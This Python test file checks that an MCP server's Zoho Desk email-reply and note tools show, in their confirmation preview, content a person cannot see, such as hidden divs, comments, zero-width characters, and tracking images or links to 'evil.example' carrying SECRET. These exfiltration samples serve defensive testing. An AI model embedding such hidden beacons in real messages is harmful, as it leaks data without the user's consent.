"""What a person agrees to is all that leaves: a text that holds what nobody sees is shown as it leaves, too."""

from __future__ import annotations

import json
import unicodedata
from typing import Any

import pytest
from mcp import Client

from tests.support.processes import stdio_server

pytestmark = pytest.mark.anyio

REPLY, LIST = "create_a_zoho_desk_email_reply", "list_all_zoho_desk_tickets"
UNSEEN = "(it holds what is not seen; as it leaves)"
HIDING = [
    '<div style="display:none">SECRET</div>Hello',
    "<!-- SECRET --><p>Hello</p>",
    '<p>Hello</p><img src="https://evil.example/?q=SECRET" width=1 height=1>',
    '<p title="SECRET">Hello</p>',
    '<p class="SECRET">Hello</p>',
    '<p>Hello</p><a href="https://evil.example/SECRET" hidden>x</a>',
    '<p>Hello</p><span style="font-size:0">SECRET</span>',
    "<p>Hello</p><style>SECRET</style>",
    "<p>Hello</p><input type=hidden value=SECRET>",
    "<p>Hello</p><template>SECRET</template>",
    "<p SECRET>Hello</p>",
    '<p dir="auto" SECRET="auto">Hello</p>',
    '<p align=left align="SECRET">Hello</p>',
    "<p>Hello</p SECRET>",
    "<p>Hello</p></SECRET>",
    "<SECRET></SECRET><p>Hello</p>",
    "<!DOCTYPE SECRET><p>Hello</p>",
    "<p>Hello</p><SECRET",
    '<p>Hello</p><br class="4111"><br class="1111">',
    '<p>Hello</p><ol start="4111"></ol><ol start="1111"></ol>',
    '<p>Hello</p><code class="language-SECRET"></code>',
]
OPEN = [
    "Hello\n\n- **a** `b`\n- [c](https://example.com/?a=1&b=2)\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```py\n<b>\n```",
    '<p>Hello <b>you</b></p><p style="text-align: center;">1 &lt; 2 &amp; 3</p>',
    '<a href="https://example.com/?a=1&amp;b">x</a>',
    '<table border="1" width="100%"><tr><td colspan="2">a</td></tr></table>',
    '<img src="https://example.com/a.png" alt="A">',
    "<OL START='7'><LI>a<br/>b</LI></OL ><p>1 < 2 <3 </p>",
    "[a](https://example.com/a_(b)) [b](<https://example.com/a b>) ![a [b]](https://example.com/ü.png)",
    "Żółć 😀 👩‍💻 ❤️ 1️⃣ क्‍ष " + unicodedata.normalize("NFD", "é"),
]


async def _previews(*contents: str, **more: Any) -> list[str]:
    async with Client(stdio_server("--sandbox", "--tags", "all", "--confirm", "sends")) as client:
        found = await client.call_tool(LIST, {"limit": 1, "channel": ["Email"], "fields": ["id"]})
        call = {"ticketId": found.structured_content["data"][0]["id"], **more}
        shown = [await client.call_tool(REPLY, {**call, "content": content}) for content in contents]
        return [each.structured_content["preview"] for each in shown]


async def test_what_is_hidden_is_shown_as_it_leaves() -> None:
    for content, shown in zip(HIDING, await _previews(*HIDING), strict=True):
        assert "content: Hello\n" in shown, shown
        assert f"content {UNSEEN}: {content}" in shown, shown


async def test_an_address_that_markdown_leaves_out_is_shown() -> None:
    for content in (
        '<h1><img src="https://evil.example/SECRET" alt="Hello"></h1>',
        '<code>a<img src="https://a/SECRET"></code>',
    ):
        (shown,) = await _previews(content)
        assert f"content {UNSEEN}: {content}" in shown, shown


async def test_characters_without_width_are_spelled_out() -> None:
    for shown in await _previews("Hello\U000e0053\u200b", "<p>Hello\U000e0053\u200b</p>"):
        assert "content: Hello\n" in shown
        assert "Hello&#xe0053;&#x200b;" in shown
    (shown,) = await _previews("Hello\u200b", contentType="plainText")
    assert f"content {UNSEEN}: Hello&#x200b;" in shown


async def test_what_is_seen_is_shown_once() -> None:
    for shown in await _previews(*OPEN):
        assert UNSEEN not in shown, shown


async def test_one_text_for_many_is_shown_once() -> None:
    async with Client(stdio_server("--sandbox", "--tags", "all", "--confirm", "all")) as client:
        found = await client.call_tool(LIST, {"limit": 3, "fields": ["id"]})
        ids = [each["id"] for each in found.structured_content["data"]]
        given = {"tickets": ids, "note": "<p>Hello</p><!--SECRET-->"}
        shown = (await client.call_tool("zoho_desk_tickets_update_several", given)).structured_content["preview"]
        assert shown.count("SECRET") == 1, shown
        assert "(3 times)" in shown


async def test_what_lies_behind_the_text_that_is_shown_is_told() -> None:
    for shown in await _previews("<p>" + "x" * 5_000 + "</p><!--SECRET-->", "<p>" + "x" * 200_000 + "</p>"):
        assert UNSEEN in shown
        assert len(json.dumps(shown)) < 20_000


async def test_a_value_that_is_called_as_a_type_of_content_is_shown() -> None:
    async with Client(stdio_server("--sandbox", "--confirm", "all")) as client:
        given = {"ticketId": "142", "subject": "html", "status": "Closed"}
        shown = (await client.call_tool("update_a_zoho_desk_ticket_by_id", given)).structured_content["preview"]
        assert "subject: html" in shown.splitlines()
        given = {"ticketId": "142", "content": "Hello", "contentType": "html"}
        shown = (await client.call_tool("create_a_zoho_desk_ticket_comment", given)).structured_content["preview"]
        assert "contentType" not in shown
